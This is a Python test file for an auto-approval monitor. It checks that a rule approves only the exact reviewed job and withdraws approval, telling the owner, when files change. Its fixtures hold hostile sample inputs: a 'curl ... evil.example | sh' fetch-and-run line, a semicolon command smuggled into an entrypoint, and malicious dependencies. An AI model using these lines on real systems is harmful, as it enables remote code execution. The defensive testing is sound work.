"""A rule approves only what was reviewed, and the approval stays what was reviewed.

The finding (issue 12): a rule for `code/main.py` (SHA-256 pinned, peer alice) approved the
identical job, one whose run.sh first ran `curl -s http://evil.example/x | sh`, and one whose
config.yaml declared an extra dependency. Every look-alike below is a consistent job as a
hostile data scientist would send it (its run.sh is the one syft-job generates for what it
declares), and none is approved while the reviewed job is.
"""

from __future__ import annotations

import logging
import shutil
from collections.abc import Mapping
from typing import Any

import pytest
from approve_world import ALICE, DEPS, MAIN_PY, RUN_SH, ApproveWorld, rule, sha

from syft_monitors.approve.authoring import rule_from_job
from syft_monitors.approve.run_script import JobDeclaration, canonical_run_script
from syft_monitors.approve_rules import ApproveSettings
from syft_monitors.notify.plan import EVENT_HEADER

EVIL_LINE = "curl -s http://evil.example/x | sh\n"


def script_for(entrypoint: str, deps: tuple[str, ...] = DEPS) -> str:
    declared = JobDeclaration("python", entrypoint, deps)
    return (canonical_run_script(declared, has_pyproject=False, bash_script=None) or b"").decode()


LOOK_ALIKES: dict[str, dict[str, Any]] = {
    "run-sh-prepended": {"run_sh": RUN_SH.replace("set -euo", EVIL_LINE + "set -euo", 1)},
    "extra-dependency": {
        "config_changes": {"dependencies": [*DEPS, "evil-package"]},
        "run_sh": script_for("main.py", (*DEPS, "evil-package")),
    },
    "syft-client-from-git": {
        "config_changes": {"dependencies": ["git+https://evil.example/syft-client"]},
        "run_sh": script_for("main.py", ("git+https://evil.example/syft-client",)),
    },
    # Same files; the generated script runs `python {entrypoint}` unquoted.
    "entrypoint": {
        "config_changes": {"entrypoint": "main.py; " + EVIL_LINE.strip()},
        "run_sh": script_for("main.py; " + EVIL_LINE.strip()),
    },
    "bash-type": {
        "config_changes": {"type": "bash", "entrypoint": None, "dependencies": []},
        "run_sh": "#!/bin/bash\n" + EVIL_LINE,
    },
    "extra-file": {"files": {"main.py": MAIN_PY, "helper.py": b"import os\n"}},
    "renamed-file": {
        "files": {"train.py": MAIN_PY},
        "config_changes": {"entrypoint": "train.py"},
        "run_sh": script_for("train.py"),
    },
}


@pytest.fixture(params=["written", "from-job"])
def ruled(world: ApproveWorld, request: pytest.FixtureRequest) -> ApproveWorld:
    """The rule as `syft-bg auto-approve main.py -p alice -d ...` or `--from-job` writes it."""
    if request.param == "written":
        made = rule("main", {"main.py": MAIN_PY}, peers=(ALICE,))
    else:
        # The owner reviewed one job of alice's and made it the template of future ones.
        template = world.place_job(ALICE, "reviewed-template", {"main.py": MAIN_PY})
        made = rule_from_job(ApproveSettings(), template, name="main").model_dump(mode="json")
        shutil.rmtree(template)
    world.write_config({"auto_approvals": [made]})
    world.tick()
    return world


def place(world: ApproveWorld, name: str, variant: Mapping[str, Any] | None = None) -> None:
    variant = dict(variant or {})
    files = variant.pop("files", {"main.py": MAIN_PY})
    world.submit(ALICE, name, files, **variant)


def status(world: ApproveWorld, name: str) -> str | None:
    state = world.state_yaml(ALICE, name)
    return None if state is None else str(state.get("status"))


def test_the_finding_only_the_identical_job_is_approved(ruled: ApproveWorld) -> None:
    place(ruled, "a_identical")
    place(ruled, "b_curl", LOOK_ALIKES["run-sh-prepended"])
    place(ruled, "c_dependency", {"config_changes": {"dependencies": [*DEPS, "evil-package"]}})
    report = ruled.tick()
    assert report.jobs_approved == 1
    assert status(ruled, "a_identical") == "approved"
    assert status(ruled, "b_curl") is None
    assert status(ruled, "c_dependency") is None


@pytest.mark.parametrize("variant", sorted(LOOK_ALIKES))
def test_look_alike_is_never_approved_while_the_reviewed_job_is(
    ruled: ApproveWorld, caplog: pytest.LogCaptureFixture, variant: str
) -> None:
    caplog.set_level(logging.INFO, logger="syft_monitors.approve")
    place(ruled, "reviewed")
    place(ruled, "look-alike", LOOK_ALIKES[variant])
    ruled.tick()
    assert status(ruled, "reviewed") == "approved"
    assert status(ruled, "look-alike") is None
    refusals = [r.getMessage() for r in caplog.records if "stays pending" in r.getMessage()]
    assert len(refusals) == 1
    assert "'look-alike'" in refusals[0]


def test_unpinned_rule_from_an_old_config_warns_once_and_approves_nothing(
    world: ApproveWorld, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.INFO, logger="syft_monitors.approve")
    old = rule("old", {"main.py": MAIN_PY}, peers=(ALICE,), pinned=False)
    world.write_config({"auto_approvals": [old]})
    place(world, "job")
    for _ in range(3):
        world.tick()
    assert status(world, "job") is None
    warnings = [r.getMessage() for r in caplog.records if r.levelno == logging.WARNING]
    inactive = [m for m in warnings if "rule inactive" in m]
    assert len(inactive) == 1
    assert "'old' does not pin run.sh" in inactive[0]
    assert "allow_unreviewed_run_sh" in inactive[0]
    assert any("inactive: it does not pin" in r.getMessage() for r in caplog.records)

    world.write_config({"auto_approvals": [rule("old", {"main.py": MAIN_PY}, peers=(ALICE,))]})
    world.tick()
    assert status(world, "job") == "approved"


def test_explicit_opt_in_keeps_an_unpinned_rule_working(world: ApproveWorld) -> None:
    loose = {
        **rule("loose", {"main.py": MAIN_PY}, peers=(ALICE,), pinned=False),
        "allow_unreviewed_run_sh": True,
    }
    world.write_config({"auto_approvals": [loose]})
    world.tick()
    place(world, "anything", LOOK_ALIKES["run-sh-prepended"])
    world.tick()
    assert status(world, "anything") == "approved"


# --- the approval stays what was reviewed --------------------------------------------------------


def withdrawal_mail(world: ApproveWorld) -> list[Any]:
    return [
        m.message
        for m in world.sandbox.sent_mail(world.owner.email)
        if m.message[EVENT_HEADER] == "approval_withdrawn"
    ]


def approved_job(world: ApproveWorld) -> Any:
    place(world, "train")
    world.tick()
    state = world.state_yaml(ALICE, "train")
    assert state is not None
    assert state["status"] == "approved"
    return world.syftbox / world.owner.email / "app_data/job/inbox" / ALICE / "train"


def test_approval_records_the_hashes_of_what_was_approved(ruled: ApproveWorld) -> None:
    folder = approved_job(ruled)
    state = ruled.state_yaml(ALICE, "train")
    assert state is not None
    hashes = state["approved_hashes"]
    assert sorted(hashes) == ["code/main.py", "config.yaml", "run.sh"]
    assert hashes["run.sh"] == sha(RUN_SH)
    assert hashes["code/main.py"] == sha(MAIN_PY)
    assert hashes["config.yaml"] == sha((folder / "config.yaml").read_bytes())


@pytest.mark.parametrize(
    ("change", "what"),
    [
        (lambda f: (f / "run.sh").write_text("#!/bin/bash\n" + EVIL_LINE), "changed 'run.sh'"),
        (lambda f: (f / "code" / "helper.py").write_text("import os\n"), "added 'code/helper.py'"),
        (lambda f: (f / "code" / "main.py").rename(f / "code" / "m.py"), "added 'code/m.py'"),
        (
            lambda f: (f / "config.yaml").write_text(
                (f / "config.yaml").read_text() + "extra: 1\n"
            ),
            "changed 'config.yaml'",
        ),
    ],
    ids=["run.sh", "extra-file", "renamed-file", "config"],
)
def test_approved_job_that_changes_before_running_is_withdrawn_and_the_owner_told(
    ruled: ApproveWorld, change: Any, what: str
) -> None:
    folder = approved_job(ruled)
    change(folder)  # a later message from the data scientist, applied by the owner's sync
    report = ruled.tick()
    assert report.jobs_withdrawn == 1
    state = ruled.state_yaml(ALICE, "train")
    assert state is not None
    assert state["status"] == "pending"
    assert state["approved_at"] is None
    assert state["approval_method"] is None
    assert "approved_hashes" not in state
    assert state["review_reason"].startswith("approval withdrawn: ")
    assert what in state["review_reason"]
    mails = withdrawal_mail(ruled)
    assert len(mails) == 1
    assert mails[0]["To"] == ruled.owner.email
    assert str(mails[0]["Subject"]) == "Re: Job: train"
    body = mails[0].get_body(("plain",)).get_content()
    assert "withdrawn" in body
    assert what in body
    for _ in range(2):  # exactly once, and the changed job is not approved again
        ruled.tick()
    assert len(withdrawal_mail(ruled)) == 1
    state = ruled.state_yaml(ALICE, "train")
    assert state is not None
    assert state["status"] == "pending"


def test_unchanged_approval_stays_and_a_started_job_is_left_alone(ruled: ApproveWorld) -> None:
    folder = approved_job(ruled)
    for _ in range(2):
        assert ruled.tick().jobs_withdrawn == 0
    assert status(ruled, "train") == "approved"
    state_file = ruled.syftbox / ruled.owner.email / "app_data/job/review" / ALICE / "train"
    text = (state_file / "state.yaml").read_text().replace("status: approved", "status: running")
    (state_file / "state.yaml").write_text(text)
    ruled.tick()
    (folder / "run.sh").write_text("#!/bin/bash\necho changed while running\n")
    assert ruled.tick().jobs_withdrawn == 0
    assert status(ruled, "train") == "running"
    assert withdrawal_mail(ruled) == []


def test_each_withdrawn_approval_is_told_once(ruled: ApproveWorld) -> None:
    folder = approved_job(ruled)
    for round_ in (1, 2):
        (folder / "run.sh").write_text("#!/bin/bash\n" + EVIL_LINE)
        assert ruled.tick().jobs_withdrawn == 1
        ruled.tick()
        assert len(withdrawal_mail(ruled)) == round_
        assert status(ruled, "train") == "pending"
        # The data scientist puts back exactly what was reviewed (a message on Drive, which the
        # owner's sync applies): the rule approves it again.
        ruled.scientists[ALICE].submit_job(ruled.owner.email, "train", {"main.py": MAIN_PY})
        (folder / "run.sh").write_text(RUN_SH)
        ruled.tick()
        assert status(ruled, "train") == "approved"
